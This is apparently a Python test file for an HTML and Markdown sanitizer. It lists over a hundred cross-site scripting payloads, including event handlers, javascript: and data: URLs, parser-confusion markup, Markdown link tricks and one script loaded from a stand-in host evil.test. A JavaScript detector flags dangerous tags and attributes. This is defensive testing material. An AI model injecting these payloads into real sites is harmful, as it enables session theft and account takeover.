"""What people put into texts so that somebody else's browser runs it: 100 and more ways."""

_PLAIN = r"""
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<script src=//evil.test/x.js></script>
<script/src="data:text/javascript,alert(1)"></script>
<script x> alert(1) </script 1=2
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script>/*<!--*/alert(1)/*-->*/</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
<img src="x" onerror="alert(1)" >
<IMG SRC=x OnErRoR=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img src=`x` onerror=alert(1)>
<img srcset=x onerror=alert(1)>
<img src="javascript:alert(1)">
<img src='vbscript:msgbox(1)'>
<img lowsrc="javascript:alert(1)">
<img dynsrc="javascript:alert(1)">
<img src=x style="background:url(javascript:alert(1))">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src="x" id="a" name="documentElement" onload=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:text/javascript,alert(1)"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a>
<svg><set attributeName=onload to=alert(1)>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>#x">
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">
<iframe onload=alert(1)></iframe>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<embed code="data:text/html,<script>alert(1)</script>">
<applet code="javascript:alert(1)">
<body onload=alert(1)>
<body onpageshow=alert(1)>
<html onmouseover=alert(1)>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="blob:https://x/1">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="jar:javascript:alert(1)!/x">x</a>
<a href="x" ping="javascript:alert(1)" onclick=alert(1)>x</a>
<a href="//evil.test" target=_top onfocus=alert(1) autofocus>x</a>
<area href="javascript:alert(1)">
<base href="javascript:/a/+alert(1)//">
<link rel=stylesheet href="javascript:alert(1)">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<input onfocus=alert(1) autofocus>
<input type=image src=x onerror=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<keygen autofocus onfocus=alert(1)>
<textarea onfocus=alert(1) autofocus></textarea>
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<select onfocus=alert(1) autofocus><option></select>
<select><style></select><img src=x onerror=alert(1)></style>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<div onpointerover=alert(1)>x</div>
<div style="width:expression(alert(1))">x</div>
<div style="behavior:url(x.htc)">x</div>
<p style="-moz-binding:url(data:text/xml,x)">x</p>
<style>@import 'javascript:alert(1)';</style>
<style>*{background:url("javascript:alert(1)")}</style>
<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>
<bgsound src="javascript:alert(1)">
<layer src="javascript:alert(1)"></layer>
<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<title><img title="</title><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><svg/onload=alert(1)>">
<noembed><p title="</noembed><svg/onload=alert(1)>">
<plaintext><script>alert(1)</script>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<!--><img src=x onerror=alert(1)>-->
<!--!><img src=x onerror=alert(1)>
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE x [<!ENTITY x SYSTEM "javascript:alert(1)">]>&x;
<x onclick=alert(1)>x</x>
<custom-x contenteditable onblur=alert(1)>x</custom-x>
<b "onmouseover=alert(1)">x</b>
<b title='x' onclick = 'alert(1)'>x</b>
<a title="&quot; onclick=alert(1) x=&quot;">x</a>
<q cite="javascript:alert(1)">x</q>
<blockquote cite=javascript:alert(1)>x</blockquote>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<portal src=javascript:alert(1)>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](java&#10;script:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](<javascript:alert(1)>)
[x](vbscript:msgbox(1))
![x](javascript:alert(1))
![x](x "onerror=alert(1)")
![" onerror="alert(1)](x)
<javascript:alert(1)>
[x][y] [y]: javascript:alert(1)
[x](#" onclick="alert(1))
`</code><img src=x onerror=alert(1)>`
| a |<img src=x onerror=alert(1)>|
"""
PAYLOADS = [line for line in _PLAIN.splitlines() if line] + [
    "```<img src=x onerror=alert(1)>\n</pre><script>alert(1)</script>\n```",
    '<a href="java\x00script:alert(1)">x</a>',
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<svg\x0bonload=alert(1)>",
    '<a href="\u2028javascript:alert(1)">x</a>',
    "<div>" * 2_000 + "<img src=x onerror=alert(1)>",
    "<" * 5_000 + "script>alert(1)</script>",
    "> " * 500 + "<script>alert(1)</script>",
]

FOUND = """html => {
  const parsed = new DOMParser().parseFromString(html, 'text/html');
  const bad = [];
  const forbidden = 'script,iframe,object,embed,applet,base,meta,link,form,input,button,svg,math,style,template,frame';
  for (const each of parsed.body.querySelectorAll('*')) {
    if (each.matches(forbidden)) bad.push(each.outerHTML);
    for (const { name, value } of each.attributes) {
      const plain = value.replace(/[\\u0000-\\u0020\\u2028\\u2029\\u00a0]/g, '').toLowerCase();
      const address = ['href', 'src', 'action', 'formaction', 'cite', 'srcdoc', 'background', 'poster'].includes(name);
      const runs = /^(javascript|vbscript|blob|data:text|data:image.svg|view-source|jar)/.test(plain);
      if (/^on/i.test(name) || name === 'style' || (address && runs)) bad.push(each.outerHTML);
    }
  }
  return bad;
}"""
"""Run in a browser: what of a page's body is not as harmless as it must be."""
